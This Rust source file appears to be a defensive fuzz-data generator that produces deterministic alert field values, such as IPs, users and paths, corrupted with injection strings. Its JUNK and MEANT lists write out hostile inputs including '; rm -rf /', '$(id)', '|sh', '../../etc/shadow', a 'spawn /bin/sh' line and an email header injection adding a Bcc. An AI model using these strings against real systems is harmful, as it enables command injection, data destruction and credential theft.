//! What attackers write into alerts.

use std::sync::LazyLock;

/// How many values there are.
pub(crate) const VALUES: usize = 10_000;

/// The same values in each run: one of what is meant, as it is or spoilt.
pub(crate) fn values() -> &'static [String] {
    static MADE: LazyLock<Vec<String>> = LazyLock::new(|| {
        let mut dice = Dice(0x5eed);
        (0..VALUES).map(|_| one_value(&mut dice)).collect()
    });
    &MADE
}

#[rustfmt::skip]
const MEANT: [&str; 18] = [
    "203.0.113.7", "2001:db8::7", "2001:DB8:0::7", "::ffff:203.0.113.9", "198.51.100.0/24", "alice", "DOMAIN$",
    "renée", "svc_x@example", "/tmp/eicar.com", "/home/bob/a b;$(id).exe", "/var/www/x.php", "/usr/bin/xmrig",
    "C:\\Users\\bob\\x.exe", "4711", "0x1267", "127.0.0.1", "root",
];

#[rustfmt::skip]
const JUNK: [&str; 52] = [
    ";", "; rm -rf /", "$(id)", "${IFS}", "`id`", "|sh", "&&id", "> /etc/passwd", "../", "..\\", "../../etc/shadow",
    "\"", "'", "\\", "\\\"", "-rf", "--root=/", "-", "--", "+", "~root", "\n", "\r", "\r\n", "\0", "\t", " ", "\u{1b}[2J",
    "\u{1b}]0;x\u{7}", "\u{7f}", "\u{9b}31m", "\u{85}", "\u{2028}", "\u{202e}", "\u{200b}", "\u{feff}", "\u{e9}",
    "</text><command>", "]]>", "<!channel>", "<!--", "&amp;", "&#10;", "%0a", "%s%n", "{{7*7}}",
    "\nALL: ALL: spawn /bin/sh", "\r\nBcc: x@evil.example\r\n\r\n", "\n.\n~!id\n", "\nRule: 1", "\",\"x\":\"", "*",
];

fn one_value(dice: &mut Dice) -> String {
    let meant = dice.one(&MEANT);
    let mut value = match dice.roll(16) {
        0..4 => return meant.to_owned(),
        4 => String::new(),
        _ => meant.to_owned(),
    };
    for _ in 0..=dice.roll(3) {
        let junk = dice.one(&JUNK);
        let places: Vec<_> = value.char_indices().map(|(at, _)| at).chain([value.len()]).collect();
        let at = match dice.roll(4) {
            0 => 0,
            1 => value.len(),
            _ => places[dice.roll(places.len())],
        };
        value.insert_str(at, junk);
    }
    if dice.roll(64) == 0 {
        let filler = dice.one(&["x", "é", "\u{1b}", "../", "a "]);
        value.push_str(&filler.repeat(10_240 / filler.len()));
    }
    value
}

/// A generator of numbers that look random (splitmix64).
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((z ^ (z >> 31)) % sides as u64).unwrap()
    }

    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.roll(of.len())]
    }
}
